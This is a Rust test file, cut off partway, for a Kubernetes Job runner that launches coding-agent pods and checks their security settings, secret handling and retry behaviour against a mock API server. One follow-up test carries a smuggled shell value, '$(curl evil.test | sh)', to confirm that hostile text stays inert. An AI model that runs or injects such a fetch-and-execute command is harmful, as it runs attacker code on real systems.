//! The kube runner against kube's mock service: the Job it posts, how it follows, adopts,
//! retries, cancels and fails.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::{BTreeMap, HashMap, VecDeque};
use std::sync::{Arc, Mutex};

use http::{Method, Request, Response};
use http_body_util::BodyExt;
use k8s_openapi::api::core::v1::Toleration;
use kube::client::Body;
use patchflow_core::{AgentOutcome, TaskSource};
use patchflow_platform::objectstore::FsObjectStore;
use serde_json::{Value, json};
use tokio::task::JoinHandle;
use tower_test::mock::{Handle, SendResponse};

use super::job::label_value;
use super::*;

const NS: &str = "agents";
const TASK: &str = "tsk_ABC_123";
const JOB: &str = "patchflow-tsk-abc-123-2";

use super::testing::Presigning;

#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
enum Route {
    CreateJob,
    GetJob,
    DeleteJob,
    ListJobs,
    WatchJobs,
    ListPods,
    WatchPods,
    PodLog,
}

impl Route {
    fn of(method: &Method, path: &str, query: &str) -> Option<Route> {
        let jobs = format!("/apis/batch/v1/namespaces/{NS}/jobs");
        // Any one Job: a candidate's or a turn's is named apart from the task's (asserted
        // on the posted Job).
        let job = |p: &str| {
            p.strip_prefix(&format!("{jobs}/"))
                .is_some_and(|n| !n.contains('/'))
        };
        let pods = format!("/api/v1/namespaces/{NS}/pods");
        let watch = query.contains("watch=true");
        Some(match (method.as_str(), path) {
            ("POST", p) if p == jobs => Route::CreateJob,
            ("GET", p) if job(p) => Route::GetJob,
            ("DELETE", p) if job(p) => Route::DeleteJob,
            ("GET", p) if p == jobs && query.contains("fieldSelector=metadata.name") => {
                if watch {
                    Route::WatchJobs
                } else {
                    Route::ListJobs
                }
            }
            ("GET", p) if p.starts_with(&format!("{pods}/")) && p.ends_with("-xyz/log") => {
                Route::PodLog
            }
            ("GET", p) if p == pods && query.contains("labelSelector=job-name") => {
                if watch {
                    Route::WatchPods
                } else {
                    Route::ListPods
                }
            }
            _ => return None,
        })
    }
    /// Streams that may stay quiet: a request with no reply scripted waits.
    fn is_watch(self) -> bool {
        matches!(self, Route::WatchJobs | Route::WatchPods | Route::PodLog)
    }
}

#[derive(Clone)]
struct Reply {
    status: u16,
    body: String,
}

// Test helpers take literal JSON by value, so each call site reads as the document it builds.
#[allow(clippy::needless_pass_by_value)]
fn ok(v: Value) -> Reply {
    Reply {
        status: 200,
        body: v.to_string(),
    }
}

fn status(code: u16, reason: &str) -> Reply {
    Reply {
        status: code,
        body: json!({"kind": "Status", "apiVersion": "v1", "status": "Failure",
            "message": format!("scripted {reason}"), "reason": reason, "code": code})
        .to_string(),
    }
}

/// Watch lines (`{"type": …, "object": …}`), one per event.
fn events(evs: &[(&str, Value)]) -> Reply {
    let body = evs
        .iter()
        .map(|(t, o)| json!({"type": t, "object": o}).to_string() + "\n")
        .collect();
    Reply { status: 200, body }
}

#[derive(Debug, Clone)]
struct Seen {
    method: Method,
    uri: String,
    body: Option<Value>,
}

/// A scripted API server: per route a queue of replies. A watch with nothing left to
/// say hangs (as a quiet watch does); any other request with no reply left, or one no
/// route knows, stops the server, which fails the test.
#[derive(Default)]
struct Script {
    queues: HashMap<Route, VecDeque<Reply>>,
    /// `(trigger, target, reply)`: once `trigger` is served, `target` gets `reply`.
    after: Vec<(Route, Route, Reply)>,
}

impl Script {
    fn on(mut self, r: Route, reply: Reply) -> Self {
        self.queues.entry(r).or_default().push_back(reply);
        self
    }
    fn after(mut self, trigger: Route, target: Route, reply: Reply) -> Self {
        self.after.push((trigger, target, reply));
        self
    }
}

fn respond(send: SendResponse<Response<Body>>, r: Reply) {
    let resp = Response::builder()
        .status(r.status)
        .header("content-type", "application/json")
        .body(Body::from(r.body.into_bytes()))
        .unwrap();
    send.send_response(resp);
}

fn serve(
    mut handle: Handle<Request<Body>, Response<Body>>,
    mut script: Script,
    seen: Arc<Mutex<Vec<Seen>>>,
) -> JoinHandle<()> {
    tokio::spawn(async move {
        let mut parked: HashMap<Route, Vec<SendResponse<Response<Body>>>> = HashMap::new();
        while let Some((req, send)) = handle.next_request().await {
            let (method, uri) = (req.method().clone(), req.uri().clone());
            let bytes = req.into_body().collect().await.unwrap().to_bytes();
            let body = serde_json::from_slice(&bytes).ok();
            seen.lock().unwrap().push(Seen {
                method: method.clone(),
                uri: uri.to_string(),
                body,
            });
            let route = Route::of(&method, uri.path(), uri.query().unwrap_or(""))
                .unwrap_or_else(|| panic!("unexpected request {method} {uri}"));
            match script.queues.get_mut(&route).and_then(|q| q.pop_front()) {
                Some(reply) => respond(send, reply),
                None if route.is_watch() => parked.entry(route).or_default().push(send),
                None => panic!("no reply scripted for {route:?}: {method} {uri}"),
            }
            let due: Vec<_> = script
                .after
                .iter()
                .filter(|(t, _, _)| *t == route)
                .map(|(_, target, reply)| (*target, reply.clone()))
                .collect();
            script.after.retain(|(t, _, _)| *t != route);
            for (target, reply) in due {
                match parked.get_mut(&target).and_then(|v| v.pop()) {
                    Some(send) => respond(send, reply),
                    None => script.queues.entry(target).or_default().push_back(reply),
                }
            }
        }
    })
}

// Test helpers take literal JSON by value, so each call site reads as the document it builds.
#[allow(clippy::needless_pass_by_value)]
fn job_json(conditions: Value) -> Value {
    json!({
        "apiVersion": "batch/v1", "kind": "Job",
        "metadata": {"name": JOB, "namespace": NS, "resourceVersion": "10",
            "labels": {"patchflow.dev/task-id": TASK},
            "annotations": {"patchflow.dev/task-id": TASK}},
        "spec": {"template": {"spec": {"containers": []}}},
        "status": {"conditions": conditions}
    })
}

fn running_job() -> Value {
    job_json(json!([]))
}

fn cond(t: &str, reason: &str, message: &str) -> Value {
    json!([{"type": t, "status": "True", "reason": reason, "message": message}])
}

// Test helpers take literal JSON by value, so each call site reads as the document it builds.
#[allow(clippy::needless_pass_by_value)]
fn pod_json(status: Value) -> Value {
    json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": format!("{JOB}-xyz"), "namespace": NS, "resourceVersion": "11",
            "labels": {"job-name": JOB}},
        "spec": {"containers": []},
        "status": status
    })
}

// Test helpers take literal JSON by value, so each call site reads as the document it builds.
#[allow(clippy::needless_pass_by_value)]
fn list(kind: &str, items: Vec<Value>) -> Reply {
    ok(
        json!({"apiVersion": "v1", "kind": kind, "metadata": {"resourceVersion": "10"}, "items": items}),
    )
}

fn config() -> KubeRunnerConfig {
    let mut c = KubeRunnerConfig::new(NS, "ghcr.io/p/patchflow:1", "llm", "api-key", "gpt-x");
    c.openai_base_url = Some("https://llm.test/v1".into());
    c.cpu_request = Some("500m".into());
    c.cpu_limit = Some("2".into());
    c.memory_request = Some("512Mi".into());
    c.memory_limit = Some("2Gi".into());
    c.service_account = Some("patchflow-agent".into());
    c.image_pull_secrets = vec!["regcred".into()];
    c.node_selector = BTreeMap::from([("pool".to_string(), "agents".to_string())]);
    c.tolerations = vec![Toleration {
        key: Some("agents".into()),
        operator: Some("Exists".into()),
        effect: Some("NoSchedule".into()),
        ..Default::default()
    }];
    c.ttl_seconds_after_finished = Some(600);
    c.image_pull_grace = Duration::from_millis(100);
    c.unschedulable_timeout = Duration::from_millis(100);
    c
}

fn spec() -> TaskSpec {
    let mut s = TaskSpec::new(
        TaskSource::Git {
            url: "https://git.test/r.git".into(),
            git_ref: None,
            git_token: None,
        },
        "Fix it",
    );
    s.limits.wall_seconds = 300;
    s.tenant = "Acme Corp".into();
    s.batch_id = Some("batch/7".into());
    s
}

fn summary() -> AgentSummary {
    AgentSummary {
        outcome: AgentOutcome::Finished,
        summary: "done".into(),
        model: "gpt-x".into(),
        steps: 3,
        tool_calls: 2,
        prompt_tokens: 10,
        completion_tokens: 5,
        total_tokens: 15,
        cached_tokens: 4,
        reasoning_tokens: 1,
        cost_usd: 0.5,
        compactions: 0,
        wall_ms: 1000,
        files_changed: vec!["a.rs".into()],
        tests_passed: None,
        error: None,
        sandbox: None,
    }
}

struct Run {
    result: Result<AgentSummary, RunnerError>,
    seen: Vec<Seen>,
    events: Vec<AgentEvent>,
}

async fn run_with(script: Script, cancel_after: Option<Duration>, store_summary: bool) -> Run {
    run_task(script, cancel_after, store_summary, spec(), config()).await
}

async fn run_task(
    script: Script,
    cancel_after: Option<Duration>,
    store_summary: bool,
    spec: TaskSpec,
    config: KubeRunnerConfig,
) -> Run {
    run_prepared(script, cancel_after, store_summary, spec, config, None).await
}

async fn run_prepared(
    script: Script,
    cancel_after: Option<Duration>,
    store_summary: bool,
    spec: TaskSpec,
    config: KubeRunnerConfig,
    prepared: Option<patchflow_workflows::io::PreparedEnv>,
) -> Run {
    run_target(
        script,
        cancel_after,
        store_summary.then(|| layout::results_prefix(&TASK.parse().unwrap())),
        spec,
        config,
        prepared,
        RunTarget::default(),
        Vec::new(),
    )
    .await
}

/// One run of `target`, with its summary stored under `summary_at` and the objects `seed`
/// (key, bytes) stored first.
#[allow(clippy::too_many_arguments)]
async fn run_target(
    script: Script,
    cancel_after: Option<Duration>,
    summary_at: Option<String>,
    spec: TaskSpec,
    config: KubeRunnerConfig,
    prepared: Option<patchflow_workflows::io::PreparedEnv>,
    target: RunTarget,
    seed: Vec<(String, Vec<u8>)>,
) -> Run {
    let (mock, handle) = tower_test::mock::pair::<Request<Body>, Response<Body>>();
    let client = kube::Client::new(mock, "default");
    let seen = Arc::new(Mutex::new(Vec::new()));
    let mut server = serve(handle, script, seen.clone());
    let dir = tempfile::tempdir().unwrap();
    let store = Presigning(
        FsObjectStore::open(&dir.path().join("objects"))
            .await
            .unwrap(),
    );
    let task: TaskId = TASK.parse().unwrap();
    if let Some(prefix) = summary_at {
        store
            .put_bytes(
                &format!("{prefix}{}", layout::SUMMARY),
                &serde_json::to_vec(&summary()).unwrap(),
            )
            .await
            .unwrap();
    }
    for (key, bytes) in seed {
        store.put_bytes(&key, &bytes).await.unwrap();
    }
    let runner = KubeRunner::new(client, config);
    let cancel = CancellationToken::new();
    if let Some(after) = cancel_after {
        let c = cancel.clone();
        tokio::spawn(async move {
            tokio::time::sleep(after).await;
            c.cancel();
        });
    }
    let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel();
    let work = dir.path().join("run-2");
    let fut = runner.run_target(
        &target,
        &task,
        &spec,
        prepared.as_ref(),
        &store,
        &work,
        tx,
        cancel,
    );
    let result = tokio::time::timeout(Duration::from_secs(20), async {
        tokio::select! {
            r = fut => r,
            j = &mut server => panic!("the mock API server stopped: {j:?}"),
        }
    })
    .await
    .expect("the runner did not finish in time");
    server.abort();
    let seen = seen.lock().unwrap().clone();
    let mut events = Vec::new();
    while let Ok(ev) = rx.try_recv() {
        events.push(ev);
    }
    Run {
        result,
        seen,
        events,
    }
}

fn created_job(seen: &[Seen]) -> Value {
    seen.iter()
        .find(|s| s.method == Method::POST)
        .and_then(|s| s.body.clone())
        .expect("a Job was posted")
}

fn completes() -> Script {
    Script::default()
        .on(Route::ListJobs, list("JobList", vec![running_job()]))
        .on(
            Route::WatchJobs,
            events(&[("MODIFIED", job_json(cond("Complete", "", "")))]),
        )
        .on(Route::ListPods, list("PodList", vec![]))
}

fn candidate(n: u32) -> RunTarget {
    RunTarget {
        candidate: Some(n),
        ..RunTarget::default()
    }
}

fn followup(turn: u32, message: &str) -> RunTarget {
    RunTarget {
        followup: Some(patchflow_workflows::io::FollowUp {
            turn,
            message: message.into(),
        }),
        ..RunTarget::default()
    }
}

/// `name` → value (or `valueFrom`) of a container's environment.
fn env_of(c: &Value) -> BTreeMap<String, Value> {
    c["env"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            let v = e
                .get("value")
                .cloned()
                .unwrap_or_else(|| e["valueFrom"].clone());
            (e["name"].as_str().unwrap().to_string(), v)
        })
        .collect()
}

#[test]
fn job_names_are_dns_labels() {
    let t: TaskId = "tsk_ABC_123".parse().unwrap();
    let task = RunTarget::default();
    assert_eq!(job_name(&t, &task, 3), "patchflow-tsk-abc-123-3");
    assert_eq!(job_name(&t, &candidate(4), 3), "patchflow-tsk-abc-123-c4-3");
    assert_eq!(
        job_name(&t, &followup(2, "x"), 1),
        "patchflow-tsk-abc-123-t2-1"
    );
    let long: TaskId = "x".repeat(128).parse().unwrap();
    for (target, end) in [
        (task, "x-12"),
        (candidate(8), "-c8-12"),
        (followup(99, "x"), "-t99-12"),
    ] {
        let n = job_name(&long, &target, 12);
        assert!(n.len() <= 63, "{n}");
        assert!(n.ends_with(end), "{n}");
    }
    assert_eq!(label_value("Acme Corp/!"), "Acme-Corp");
    assert_eq!(attempt_of(Path::new("/w/run-7")), 7);
    assert_eq!(attempt_of(Path::new("/w/run-c3-5")), 5);
    assert_eq!(attempt_of(Path::new("/w/run-t12-2")), 2);
    assert_eq!(attempt_of(Path::new("/w/elsewhere")), 1);
}

#[tokio::test]
async fn a_candidate_is_its_own_job_storing_under_its_prefix() {
    let script = completes().on(Route::CreateJob, ok(running_job()));
    // Only the candidate's summary exists: the runner must read that one.
    let prefix = format!("results/{TASK}/candidates/3/");
    let run = run_target(
        script,
        None,
        Some(prefix.clone()),
        spec(),
        config(),
        None,
        candidate(3),
        Vec::new(),
    )
    .await;
    assert_eq!(run.result.unwrap(), summary());
    let job = created_job(&run.seen);
    assert_eq!(job["metadata"]["name"], "patchflow-tsk-abc-123-c3-2");
    assert_eq!(job["metadata"]["labels"]["patchflow.dev/candidate"], "3");
    assert!(
        job["metadata"]["labels"]
            .get("patchflow.dev/turn")
            .is_none()
    );
    let pod = &job["spec"]["template"]["spec"];
    let (ie, ae) = (
        env_of(&pod["initContainers"][0]),
        env_of(&pod["containers"][0]),
    );
    assert_eq!(ae["PATCHFLOW_CANDIDATE"], "3");
    assert!(!ae.contains_key("PATCHFLOW_TURN"));
    for (var, file) in RESULT_URLS {
        assert_eq!(
            ae[var],
            format!("https://s3.test/{prefix}{file}?op=put"),
            "{var}"
        );
    }
    // Every candidate starts from the same staged code and resumes nothing.
    assert_eq!(
        ie["PATCHFLOW_STAGED_URL"],
        format!("https://s3.test/staged/{TASK}/code.tar.zst?op=get")
    );
    assert!(
        !ie.keys().any(|k| k.starts_with("PATCHFLOW_RESUME")),
        "{ie:?}"
    );
}

#[tokio::test]
async fn a_candidate_without_its_own_summary_fails_even_when_the_task_has_one() {
    let script = completes().on(Route::CreateJob, ok(running_job()));
    let run = run_target(
        script,
        None,
        Some(layout::results_prefix(&TASK.parse().unwrap())),
        spec(),
        config(),
        None,
        candidate(2),
        Vec::new(),
    )
    .await;
    let err = run.result.unwrap_err().to_string();
    assert!(err.contains("without storing a summary"), "{err}");
}

#[tokio::test]
async fn a_follow_up_job_resumes_the_tasks_conversation_and_stores_under_its_turn() {
    let script = completes().on(Route::CreateJob, ok(running_job()));
    let prefix = format!("results/{TASK}/turns/3/");
    // Hostile text stays a plain value: never in the command, never split into arguments.
    let message = "Add subtract()\n$(curl evil.test | sh); `id` \"quoted\" --resume /etc";
    let run = run_target(
        script,
        None,
        Some(prefix.clone()),
        spec(),
        config(),
        None,
        followup(3, message),
        // The task has a conversation but no changes yet (turn 1 changed nothing).
        vec![(
            layout::result_key(&TASK.parse().unwrap(), layout::CONVERSATION),
            b"{}".to_vec(),
        )],
    )
    .await;
    assert_eq!(run.result.unwrap(), summary());
    let job = created_job(&run.seen);
    assert_eq!(job["metadata"]["name"], "patchflow-tsk-abc-123-t3-2");
    assert_eq!(job["metadata"]["labels"]["patchflow.dev/turn"], "3");
    let pod = &job["spec"]["template"]["spec"];
    let (init, agent) = (&pod["initContainers"][0], &pod["containers"][0]);
    let (ie, ae) = (env_of(init), env_of(agent));
    assert_eq!(
        ie["PATCHFLOW_RESUME_URL_CONVERSATION"],
        format!("https://s3.test/results/{TASK}/conversation.json?op=get")
    );
    assert!(
        !ie.contains_key("PATCHFLOW_RESUME_URL_CHANGES"),
        "a file the task lacks is not presigned: {ie:?}"
    );
    assert_eq!(ie["PATCHFLOW_RESUME_DIR"], "/scratch/resume");
    assert!(
        !ae.keys().any(|k| k.starts_with("PATCHFLOW_RESUME_URL")),
        "{ae:?}"
    );
    assert_eq!(ae["PATCHFLOW_TURN"], "3");
    assert_eq!(ae["PATCHFLOW_FOLLOWUP_MESSAGE"], message);
    assert!(!ae.contains_key("PATCHFLOW_CANDIDATE"));
    for (var, file) in RESULT_URLS {
        assert_eq!(
            ae[var],
            format!("https://s3.test/{prefix}{file}?op=put"),
            "{var}"
        );
    }
    for c in [init, agent] {
        assert_eq!(c["command"], json!(["patchflow", "agent-pod"]));
        assert_eq!(c["args"].as_array().unwrap().len(), 1, "{c}");
    }
}

#[tokio::test]
async fn posts_a_restricted_job_and_completes_with_the_stored_summary() {
    let script = completes().on(Route::CreateJob, ok(running_job()));
    let run = run_with(script, None, true).await;
    assert_eq!(run.result.unwrap(), summary());
    let job = created_job(&run.seen);
    assert_eq!(job["metadata"]["name"], JOB);
    assert_eq!(job["metadata"]["namespace"], NS);
    let labels = json!({
        "app.kubernetes.io/name": "patchflow-agent",
        "patchflow.dev/task-id": TASK,
        "patchflow.dev/tenant": "Acme-Corp",
        "patchflow.dev/batch-id": "batch-7",
    });
    assert_eq!(job["metadata"]["labels"], labels);
    assert_eq!(
        job["metadata"]["annotations"],
        json!({"patchflow.dev/task-id": TASK, "patchflow.dev/tenant": "Acme Corp",
            "patchflow.dev/batch-id": "batch/7"})
    );
    let js = &job["spec"];
    assert_eq!(js["backoffLimit"], 0);
    assert_eq!(js["activeDeadlineSeconds"], 360);
    assert_eq!(js["ttlSecondsAfterFinished"], 600);
    assert_eq!(js["template"]["metadata"]["labels"], labels);
    let pod = &js["template"]["spec"];
    assert_eq!(pod["restartPolicy"], "Never");
    assert_eq!(pod["automountServiceAccountToken"], false);
    assert_eq!(pod["serviceAccountName"], "patchflow-agent");
    assert_eq!(pod["imagePullSecrets"], json!([{"name": "regcred"}]));
    assert_eq!(pod["nodeSelector"], json!({"pool": "agents"}));
    assert_eq!(
        pod["tolerations"],
        json!([{"key": "agents", "operator": "Exists", "effect": "NoSchedule"}])
    );
    assert_eq!(
        pod["securityContext"],
        json!({"runAsNonRoot": true, "runAsUser": 65532, "runAsGroup": 65532,
            "fsGroup": 65532, "seccompProfile": {"type": "RuntimeDefault"}})
    );
    assert_eq!(
        pod["volumes"],
        json!([{"name": "workspace", "emptyDir": {}}, {"name": "scratch", "emptyDir": {}}])
    );
    let restricted = json!({
        "runAsNonRoot": true, "runAsUser": 65532, "runAsGroup": 65532,
        "readOnlyRootFilesystem": true, "allowPrivilegeEscalation": false,
        "privileged": false, "capabilities": {"drop": ["ALL"]},
        "seccompProfile": {"type": "RuntimeDefault"}
    });
    let resources = json!({"requests": {"cpu": "500m", "memory": "512Mi"},
        "limits": {"cpu": "2", "memory": "2Gi"}});
    let mounts = json!([{"name": "workspace", "mountPath": "/workspace"},
        {"name": "scratch", "mountPath": "/scratch"}]);
    let init = &pod["initContainers"][0];
    let agent = &pod["containers"][0];
    assert_eq!(pod["initContainers"].as_array().unwrap().len(), 1);
    assert_eq!(pod["containers"].as_array().unwrap().len(), 1);
    for (c, step) in [(init, "fetch"), (agent, "run")] {
        assert_eq!(c["image"], "ghcr.io/p/patchflow:1");
        assert_eq!(c["command"], json!(["patchflow", "agent-pod"]));
        assert_eq!(c["args"], json!([step]));
        assert_eq!(c["securityContext"], restricted);
        assert_eq!(c["resources"], resources);
        assert_eq!(c["volumeMounts"], mounts);
    }
    let (ie, ae) = (env_of(init), env_of(agent));
    assert_eq!(
        ie["PATCHFLOW_STAGED_URL"],
        format!("https://s3.test/staged/{TASK}/code.tar.zst?op=get")
    );
    assert!(
        !ie.contains_key("OPENAI_API_KEY"),
        "the init container gets no key"
    );
    assert_eq!(
        ae["OPENAI_API_KEY"],
        json!({"secretKeyRef": {"name": "llm", "key": "api-key", "optional": false}})
    );
    let key_env = agent["env"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["name"] == "OPENAI_API_KEY");
    assert!(
        key_env.unwrap().get("value").is_none(),
        "never an inline key"
    );
    for (var, file) in [
        ("PATCHFLOW_RESULT_URL_DIFF", "diff.patch"),
        ("PATCHFLOW_RESULT_URL_TRANSCRIPT", "transcript.jsonl"),
        ("PATCHFLOW_RESULT_URL_LOG", "agent.log"),
        ("PATCHFLOW_RESULT_URL_CONVERSATION", "conversation.json"),
        ("PATCHFLOW_RESULT_URL_CHANGES", "changes.tar.zst"),
        ("PATCHFLOW_RESULT_URL_TURN_DIFF", "turn.patch"),
        ("PATCHFLOW_RESULT_URL_SUMMARY", "summary.json"),
    ] {
        assert_eq!(
            ae[var],
            format!("https://s3.test/results/{TASK}/{file}?op=put")
        );
    }
    assert_eq!(ae["PATCHFLOW_MODEL"], "gpt-x");
    assert_eq!(ae["OPENAI_BASE_URL"], "https://llm.test/v1");
    // The agent container serves its metrics on the pod's address, as a named port a
    // PodMonitor scrapes; nothing traced here, so no TRACEPARENT.
    assert_eq!(ae["PATCHFLOW_METRICS_ADDR"], "0.0.0.0:9898");
    assert_eq!(
        agent["ports"],
        json!([{"name": "metrics", "containerPort": 9898}])
    );
    assert!(init.get("ports").is_none());
    assert!(!ae.contains_key("TRACEPARENT"));
    assert_eq!(ae["PATCHFLOW_TASK_ID"], TASK);
    let spec_back: TaskSpec =
        serde_json::from_str(ae["PATCHFLOW_TASK_SPEC"].as_str().unwrap()).unwrap();
    assert_eq!(spec_back.task_description, "Fix it");
    // Followed by watches, not polling: one list then watches for each kind.
    assert!(
        run.seen
            .iter()
            .any(|s| s.uri.contains("/jobs?") && s.uri.contains("watch=true"))
    );
    assert!(run.seen.iter().all(|s| s.method != Method::DELETE));
}

#[tokio::test]
async fn a_prepared_environment_replaces_the_staged_code_and_brings_its_home() {
    let script = completes().on(Route::CreateJob, ok(running_job()));
    let prepared = patchflow_workflows::io::PreparedEnv {
        baseline_key: format!("staged/{TASK}/prepared.tar.zst"),
        home_key: Some(format!("staged/{TASK}/home.tar.zst")),
        cache_key: Some("k".into()),
        cache_hit: true,
        millis: 1,
    };
    let run = run_prepared(script, None, true, spec(), config(), Some(prepared)).await;
    assert_eq!(run.result.unwrap(), summary());
    let job = created_job(&run.seen);
    let init = &job["spec"]["template"]["spec"]["initContainers"][0];
    let value = |name: &str| {
        init["env"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["name"] == name)
            .map(|e| e["value"].clone())
    };
    assert_eq!(
        value("PATCHFLOW_STAGED_URL"),
        Some(json!(format!(
            "https://s3.test/staged/{TASK}/prepared.tar.zst?op=get"
        )))
    );
    assert_eq!(
        value("PATCHFLOW_HOME_URL"),
        Some(json!(format!(
            "https://s3.test/staged/{TASK}/home.tar.zst?op=get"
        )))
    );
}

#[tokio::test]
async fn the_agents_progress_lines_become_task_events() {
    let agent_running = pod_json(json!({"phase": "Running", "containerStatuses": [
        {"name": "agent", "image": "i", "imageID": "", "ready": true, "restartCount": 0,
         "state": {"running": {"startedAt": "2026-11-29T10:00:00Z"}}}]}));
    let log = [
        json!({"event": "started", "model": "gpt-x", "max_steps": 30}).to_string(),
        "a line that is not an event".to_string(),
        json!({"event": "model_request", "step": 1}).to_string(),
        json!({"event": "tool_call", "step": 1, "tool": "read_file_content",
            "arguments": "{\"file_path\":\"a.rs\"}"})
        .to_string(),
    ]
    .join("\n");
    let script = Script::default()
        .on(Route::CreateJob, ok(running_job()))
        .on(Route::ListJobs, list("JobList", vec![running_job()]))
        .on(Route::ListPods, list("PodList", vec![]))
        .on(Route::WatchPods, events(&[("MODIFIED", agent_running)]))
        .on(
            Route::PodLog,
            Reply {
                status: 200,
                body: log + "\n",
            },
        )
        // The Job completes only once the log has been asked for.
        .after(
            Route::PodLog,
            Route::WatchJobs,
            events(&[("MODIFIED", job_json(cond("Complete", "", "")))]),
        );
    let run = run_with(script, None, true).await;
    assert_eq!(run.result.unwrap(), summary());
    let log_req = run
        .seen
        .iter()
        .find(|s| s.uri.contains("/log"))
        .expect("the agent's log was followed");
    assert!(
        log_req.uri.contains("container=agent") && log_req.uri.contains("follow=true"),
        "{}",
        log_req.uri
    );
    assert_eq!(
        run.events,
        vec![
            AgentEvent::Pod {
                phase: "Running".into()
            },
            AgentEvent::Started {
                model: "gpt-x".into(),
                max_steps: 30
            },
            AgentEvent::ModelRequest { step: 1 },
            AgentEvent::ToolCall {
                step: 1,
                tool: "read_file_content".into(),
                arguments: "{\"file_path\":\"a.rs\"}".into()
            },
        ]
    );
    let logs = run.seen.iter().filter(|s| s.uri.contains("/log")).count();
    assert_eq!(logs, 1, "one pod, one log stream");
}

#[tokio::test]
async fn an_existing_job_is_adopted_and_followed() {
    let script = completes()
        .on(Route::CreateJob, status(409, "AlreadyExists"))
        .on(Route::GetJob, ok(running_job()));
    let run = run_with(script, None, true).await;
    assert_eq!(run.result.unwrap(), summary());
    let posts = run.seen.iter().filter(|s| s.method == Method::POST).count();
    assert_eq!(posts, 1, "one POST, never a second Job");
    assert!(
        run.seen
            .iter()
            .any(|s| s.method == Method::GET && s.uri.ends_with(JOB))
    );
}

/// A Job of this task made by workflow run `run`.
fn job_of_run(run: &str, conditions: Value) -> Value {
    let mut j = job_json(conditions);
    j["metadata"]["uid"] = json!(format!("uid-{run}"));
    j["metadata"]["annotations"]["patchflow.dev/workflow-run"] = json!(run);
    j
}

fn in_run(run: &str) -> RunTarget {
    RunTarget {
        workflow_run: Some(run.into()),
        ..RunTarget::default()
    }
}

#[tokio::test]
async fn a_job_of_the_same_run_is_adopted() {
    let script = completes()
        .on(Route::CreateJob, status(409, "AlreadyExists"))
        .on(Route::GetJob, ok(job_of_run("run-2", json!([]))));
    let run = run_target(
        script,
        None,
        Some(layout::results_prefix(&TASK.parse().unwrap())),
        spec(),
        config(),
        None,
        in_run("run-2"),
        Vec::new(),
    )
    .await;
    assert_eq!(run.result.unwrap(), summary());
    assert!(run.seen.iter().all(|s| s.method != Method::DELETE));
    let job = created_job(&run.seen);
    assert_eq!(
        job["metadata"]["annotations"]["patchflow.dev/workflow-run"],
        "run-2"
    );
}

#[tokio::test]
async fn a_retried_tasks_new_run_replaces_the_finished_job_of_its_earlier_run() {
    // The earlier run's Job failed; the new run must not inherit that outcome.
    let old = job_of_run(
        "run-1",
        cond("Failed", "BackoffLimitExceeded", "old failure"),
    );
    let script = Script::default()
        .on(Route::CreateJob, status(409, "AlreadyExists"))
        .on(Route::GetJob, ok(old))
        .on(
            Route::DeleteJob,
            ok(json!({"kind": "Status", "status": "Success"})),
        )
        // Watching the old Job go: the list no longer has it.
        .on(Route::ListJobs, list("JobList", vec![]))
        .on(Route::CreateJob, ok(job_of_run("run-2", json!([]))))
        .on(
            Route::ListJobs,
            list("JobList", vec![job_of_run("run-2", json!([]))]),
        )
        .on(
            Route::WatchJobs,
            events(&[("MODIFIED", job_of_run("run-2", cond("Complete", "", "")))]),
        )
        .on(Route::ListPods, list("PodList", vec![]));
    let run = run_target(
        script,
        None,
        Some(layout::results_prefix(&TASK.parse().unwrap())),
        spec(),
        config(),
        None,
        in_run("run-2"),
        Vec::new(),
    )
    .await;
    assert_eq!(run.result.unwrap(), summary());
    let methods: Vec<&Method> = run
        .seen
        .iter()
        .filter(|s| s.method != Method::GET)
        .map(|s| &s.method)
        .collect();
    assert_eq!(
        methods,
        [&Method::POST, &Method::DELETE, &Method::POST],
        "{:?}",
        run.seen
    );
    let delete = run
        .seen
        .iter()
        .find(|s| s.method == Method::DELETE)
        .unwrap();
    assert_eq!(
        delete.body.as_ref().unwrap()["propagationPolicy"],
        "Foreground"
    );
}

#[tokio::test]
async fn a_job_of_another_task_with_the_same_name_is_not_adopted() {
    let mut foreign = running_job();
    foreign["metadata"]["annotations"]["patchflow.dev/task-id"] = json!("tsk_other");
    let script = Script::default()
        .on(Route::CreateJob, status(409, "AlreadyExists"))
        .on(Route::GetJob, ok(foreign));
    let run = run_with(script, None, true).await;
    let e = run.result.unwrap_err();
    assert!(matches!(e, RunnerError::BadInput(_)), "{e:?}");
    assert!(
        e.to_string().contains("already exists for another task"),
        "{e}"
    );
    assert!(
        run.seen.iter().all(|s| s.method != Method::DELETE),
        "another task's Job is left alone"
    );
}

#[tokio::test]
async fn a_server_error_on_create_is_retried() {
    let script = completes()
        .on(Route::CreateJob, status(500, "InternalError"))
        .on(Route::CreateJob, ok(running_job()));
    let run = run_with(script, None, true).await;
    assert_eq!(run.result.unwrap(), summary());
    let posts = run.seen.iter().filter(|s| s.method == Method::POST).count();
    assert_eq!(posts, 2);
}

#[tokio::test]
async fn a_failing_watch_is_retried() {
    let script = Script::default()
        .on(Route::CreateJob, ok(running_job()))
        .on(Route::ListJobs, status(500, "InternalError"))
        .on(Route::ListJobs, list("JobList", vec![running_job()]))
        .on(
            Route::WatchJobs,
            events(&[("MODIFIED", job_json(cond("Complete", "", "")))]),
        )
        .on(Route::ListPods, list("PodList", vec![]));
    let run = run_with(script, None, true).await;
    assert_eq!(run.result.unwrap(), summary());
    let lists = run
        .seen
        .iter()
        .filter(|s| {
            s.method == Method::GET && s.uri.contains("/jobs?") && !s.uri.contains("watch=true")
        })
        .count();
    assert_eq!(lists, 2, "the Job list is retried after the 500");
}

#[tokio::test]
async fn a_complete_job_without_summary_fails() {
    let script = completes().on(Route::CreateJob, ok(running_job()));
    let run = run_with(script, None, false).await;
    let e = run.result.unwrap_err().to_string();
    assert!(e.contains("without storing a summary"), "{e}");
}

#[tokio::test]
async fn an_oom_killed_agent_fails_naming_it() {
    let oom = pod_json(json!({"phase": "Failed", "containerStatuses": [{
        "name": "agent", "image": "ghcr.io/p/patchflow:1", "imageID": "", "ready": false,
        "restartCount": 0,
        "state": {"terminated": {"exitCode": 137, "reason": "OOMKilled"}}}]}));
    let script = Script::default()
        .on(Route::CreateJob, ok(running_job()))
        .on(Route::ListJobs, list("JobList", vec![running_job()]))
        .on(Route::ListPods, list("PodList", vec![oom.clone()]))
